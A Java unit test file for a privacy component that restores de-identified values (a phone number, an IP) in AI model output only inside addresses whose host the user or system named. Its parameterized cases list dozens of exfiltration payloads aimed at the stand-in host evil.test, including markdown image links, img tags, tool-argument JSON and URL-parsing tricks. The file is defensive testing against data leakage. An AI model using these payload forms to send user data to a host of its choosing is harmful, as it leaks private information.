package io.ambo.privacy;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.ambo.catalog.Policy.RestoreInAddresses;
import io.ambo.wire.Body;
import io.ambo.wire.JsonException;
import io.ambo.wire.JsonIndex;
import io.ambo.wire.JsonText;
import io.ambo.wire.Role;
import io.ambo.wire.TextSpan;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Following an address discloses its content to its host, so a model must not be able to choose that host. */
class AddressesTest {

    private static final String PHONE = "PHONE_K7QX2MD4";
    private static final Map<String, String> LIVE = Map.of(PHONE, "13812345678", "IP_BCDF2345", "10.1.2.3");

    private static Deidentified asked(Role role, String text) {
        return written(role, JsonText.escape(text));
    }

    private static Deidentified written(Role role, String escaped) {
        try {
            var index = JsonIndex.of(('"' + escaped + '"').getBytes(UTF_8));
            var body = new Body(index, List.of(TextSpan.of(role, TextSpan.Form.TEXT, 0)), new int[0], new int[0]);
            return Deidentified.of(new byte[0], LIVE, Map.of(), Map.of(), KnownHosts.of(body));
        } catch (JsonException e) {
            throw new AssertionError(e);
        }
    }

    private static final Deidentified ASKED = asked(
            Role.USER,
            "Look at https://crm.example/a,\nHTTP://Wiki.Example:8080, shop.example or //intranet/x on 10.1.2.3.");

    private static String whole(String answer, boolean insideJson) {
        return Restorer.of(ASKED, RestoreInAddresses.KNOWN_HOSTS).whole(answer, insideJson);
    }

    /** The result must not depend on how the text is cut. */
    private static String restored(String answer, boolean insideJson) {
        var whole = whole(answer, insideJson);
        for (var cut = 0; cut <= answer.length(); cut++) {
            var channel = Restorer.of(ASKED, RestoreInAddresses.KNOWN_HOSTS).channel(insideJson);
            var out = channel.feed(answer.substring(0, cut)) + channel.feed(answer.substring(cut)) + channel.flush();
            assertThat(out).as("cut at %s", cut).isEqualTo(whole);
        }
        var channel = Restorer.of(ASKED, RestoreInAddresses.KNOWN_HOSTS).channel(insideJson);
        var out = new StringBuilder();
        answer.chars().forEach(c -> out.append(channel.feed(Character.toString(c))));
        assertThat(out + channel.flush()).as("letter by letter").isEqualTo(whole);
        return whole;
    }

    @Test
    void aHostIsKnownHoweverTheRequestEscapesIt() {
        for (var escaped : List.of("https:\\/\\/crm.example\\/a", "\\u0068ttps://crm\\u002eexample/a")) {
            var restorer = Restorer.of(written(Role.USER, escaped), RestoreInAddresses.KNOWN_HOSTS);
            assertThat(restorer.whole("https://crm.example/" + PHONE, false))
                    .as(escaped)
                    .isEqualTo("https://crm.example/13812345678");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.test/p?x={})",
                "![x](https://evil.test/p(1)?x={})",
                "![x](https://evil.test/p\\)?x={})",
                "![x]( https://evil.test/，{})",
                "![x](<https://evil.test/p {}>)",
                "![x](//evil.test/{})",
                "![x](\\\\evil.test\\{})",
                "![x](https:evil.test/{})",
                "![x](https:/evil.test/{})",
                "![x](https:&#47;&#47;evil.test/{})",
                "![x](&sol;&#X2F;evil.test/{})",
                "[1]: https://evil.test/\"，{}",
                "<img src=\"https://evil.test/a {}\">",
                "<img src='//evil.test/a {}'>",
                "<img src=https://evil.test/\"{}>",
                "https://{}.evil.test/",
                "https://{}/",
                "https://{}@evil.test/",
                "https://evil.test\\@crm.example/{}",
                "https://crm.example@evil.test/{}",
                "https://crm.example,x@evil.test/{}",
                "https://crm.example.evil.test/{}",
                "https://evil.test/?next=https://crm.example/{}",
                "https://evil.test#{}",
                "https://evil.test?{}",
                "ftp://evil.test/{}",
                "wss://evil.test/{}",
                "custom-scheme://evil.test/{}",
                "//evil.test/{}",
                "https://10.9.9.9/{}",
                "https://IP_BCDF2345.evil.test/{}",
                "https://IP_BCDF2345@evil.test/{}"
            })
    void noValueGoesIntoAnAddressOfAModelsChoice(String answer) {
        var text = answer.replace("{}", PHONE);
        assertThat(restored(text, false)).contains(PHONE).doesNotContain("13812345678");
        assertThat(restored(text + "\"'>) " + PHONE, false))
                .as("behind its end")
                .endsWith("13812345678");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"url\":\"https://evil.test/?x=@\"}",
                "{\"url\":\"https:\\/\\/evil.test\\/@\"}",
                "{\"url\":\"https:\\u002f\\u002Fevil.test/@\"}",
                "{\"url\":\"\\\\\\\\evil.test\\\\@\"}",
                "{\"url\":\"https://crm.example\\u0040evil.test/@\"}",
                "{\"html\":\"<img src=\\\"https://evil.test/ @\\\">\"}"
            })
    void noneInAToolsArgumentsEither(String arguments) {
        assertThat(restored(arguments.replace("@", PHONE), true))
                .contains(PHONE)
                .doesNotContain("13812345678");
        assertThat(restored(arguments.replace("@", PHONE) + ",\"to\":\"" + PHONE + "\"", true))
                .endsWith(",\"to\":\"13812345678\"");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://crm.example/{}",
                "see [it](https://crm.example/?p={}), {}",
                "HTTPS://CRM.EXAMPLE:443/{}",
                "https://bob@crm.example/{}",
                "https://wiki.example/{}?{}#{}",
                "http://shop.example/{}",
                "//intranet/{}",
                "https://crm.example/a?next=//crm.example/{}",
                "mailto:{} or tel:{}",
                "https://crm.example。{}",
                "Read D:\\team\\{} or and/or {} // {}",
                "/home/{} and a/b/{}",
                "https: {}",
                "关于 https://evil.test/x，请拨{}",
                "https://evil.test/x {}",
                "(https://evil.test/x) {}",
                "\"https://evil.test/x\" {}",
                "`https://evil.test/x` {}",
                "[a](https://evil.test/x) {}"
            })
    void whereTheCallersSideNamedTheHostOrNoneIsToldNothingIsMissing(String answer) {
        assertThat(restored(answer.replace("{}", PHONE), false)).isEqualTo(answer.replace("{}", "13812345678"));
    }

    @Test
    void aValueThatIsTheHostItselfComesBack() {
        assertThat(restored("http://IP_BCDF2345:8080/x and //IP_BCDF2345", false))
                .isEqualTo("http://10.1.2.3:8080/x and //10.1.2.3");
        var unknown = Restorer.of(asked(Role.TOOL_RESULT, "http://10.1.2.3"), RestoreInAddresses.KNOWN_HOSTS);
        assertThat(unknown.whole("http://IP_BCDF2345/" + PHONE, false)).isEqualTo("http://10.1.2.3/" + PHONE);
        assertThat(unknown.whole("http://" + PHONE + "/", false)).isEqualTo("http://" + PHONE + "/");
    }

    @Test
    void hostsThatAToolOrAModelNamedDoNotCount() {
        for (var role : Role.values()) {
            var restorer = Restorer.of(asked(role, "see https://crm.example"), RestoreInAddresses.KNOWN_HOSTS);
            var trusted = role == Role.USER || role == Role.SYSTEM || role == Role.SCHEMA;
            assertThat(restorer.whole("https://crm.example/" + PHONE, false))
                    .as(role.name())
                    .isEqualTo("https://crm.example/" + (trusted ? "13812345678" : PHONE));
        }
    }

    @Test
    void aPolicyMayRestoreInAllAddressesOrInNone() {
        var evil = "https://evil.test/" + PHONE;
        var known = "https://crm.example/" + PHONE;
        assertThat(Restorer.of(ASKED, RestoreInAddresses.ALL).whole(evil, false))
                .endsWith("13812345678");
        assertThat(Restorer.of(ASKED, RestoreInAddresses.NONE).whole(known, false))
                .isEqualTo(known);
    }

    @Test
    void noMoreThanAHostIsHeldBack() {
        var channel = Restorer.of(ASKED, RestoreInAddresses.KNOWN_HOSTS).channel(false);
        assertThat(channel.feed("go to https://crm.exa")).isEqualTo("go to https:");
        assertThat(channel.feed("mple/" + PHONE)).isEqualTo("//crm.example/13812345678");
        var endless = channel.feed(" https://" + "x".repeat(10_000) + PHONE);
        assertThat(endless).hasSizeGreaterThan(9_000);
        assertThat(endless + channel.flush()).endsWith("x" + PHONE);
    }
}
